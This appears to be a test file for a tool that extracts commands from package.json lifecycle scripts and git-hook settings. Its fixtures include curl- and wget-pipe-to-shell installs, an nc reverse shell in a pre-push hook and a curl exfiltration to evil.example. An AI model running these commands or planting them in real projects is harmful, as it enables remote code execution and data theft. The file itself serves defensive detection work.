// package.json: lifecycle scripts and the git hooks package.json configures; fragments and broken JSON.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ex, lines, PROJECT } from './helpers.ts';

const PKG = `${PROJECT}/package.json`;

test('curl | sh in postinstall', () => {
  const r = ex('package-scripts', JSON.stringify({ name: 'x', scripts: { postinstall: 'curl -fsSL https://evil.example/i.sh | sh', test: 'jest' } }, null, 2), PKG);
  assert.deepEqual(r.commands, [{ line: 'curl -fsSL https://evil.example/i.sh | sh', where: 'scripts.postinstall' }]);
  assert.equal(r.label, 'package.json postinstall script');
  assert.equal(r.partial, false);
});

test('benign near-misses: a postinstall build, and scripts that run only when asked', () => {
  const r = ex('package-scripts', JSON.stringify({ scripts: { postinstall: 'node scripts/build.js', build: 'tsc', test: 'node --test', pretest: 'curl x', start: 'node .' } }), PKG);
  assert.deepEqual(r.commands.map((c) => c.line), ['node scripts/build.js']);
});

test('every lifecycle script that runs unasked', () => {
  const names = ['preinstall', 'install', 'postinstall', 'prepublish', 'preprepare', 'prepare', 'postprepare', 'prepublishOnly', 'prepack', 'postpack', 'dependencies', 'preuninstall', 'uninstall', 'postuninstall'];
  const scripts = Object.fromEntries(names.map((n) => [n, `echo ${n}`]));
  assert.deepEqual(lines('package-scripts', JSON.stringify({ scripts }), PKG), names.map((n) => `echo ${n}`));
});

test('git hooks configured in package.json', () => {
  const pkg = {
    scripts: { lint: 'eslint .', 'check-types': 'tsc --noEmit' },
    'simple-git-hooks': { 'pre-commit': 'npx lint-staged', preserveUnused: true },
    husky: { hooks: { 'pre-push': 'nc -e /bin/sh 10.0.0.1 4444' } },
    gitHooks: { 'commit-msg': 'node check.js' },
    'pre-commit': ['lint', 'check-types', 'missing'],
    'lint-staged': { '*.ts': ['eslint --fix', 'prettier --write'], '*': 'curl -d @- https://evil.example' },
  };
  const r = ex('package-scripts', JSON.stringify(pkg), PKG);
  assert.deepEqual(r.commands.map((c) => c.line), [
    'npx lint-staged', 'nc -e /bin/sh 10.0.0.1 4444', 'node check.js', 'eslint .', 'tsc --noEmit', 'npm run missing',
    'eslint --fix', 'prettier --write', 'curl -d @- https://evil.example',
  ]);
  assert.match(r.commands[1]!.where, /husky\.hooks\["pre-push"\]/);
});

test('a fragment: only the scripts object', () => {
  assert.deepEqual(lines('package-scripts', '{"scripts": {"preinstall": "wget -qO- https://e.example | bash"}}', PKG), ['wget -qO- https://e.example | bash']);
});

test('a fragment that is not JSON: string scan, partial', () => {
  const r = ex('package-scripts', '    "postinstall": "node -e \\"require(\'child_process\').exec(\'id\')\\"",\n    "test": "jest"\n', PKG);
  assert.deepEqual(r.commands.map((c) => c.line), [`node -e "require('child_process').exec('id')"`]);
  assert.equal(r.partial, true);
});

test('broken JSON (a missing brace) is read leniently and partial', () => {
  const r = ex('package-scripts', '{"name": "x", "scripts": {"install": "sh ./evil.sh"}', PKG);
  assert.deepEqual(r.commands.map((c) => c.line), ['sh ./evil.sh']);
  assert.equal(r.partial, true);
});

test('duplicate keys: what npm reads (the last) is returned', () => {
  assert.deepEqual(lines('package-scripts', '{"scripts": {"postinstall": "echo first", "postinstall": "curl x | sh"}}', PKG), ['curl x | sh']);
});

test('a non-object package.json and junk do not throw', () => {
  for (const t of ['', '[]', 'null', '"x"', '{"scripts": []}', '{"scripts": {"postinstall": 5}}', '{'.repeat(10000)]) {
    assert.doesNotThrow(() => ex('package-scripts', t, PKG), t.slice(0, 20));
  }
});
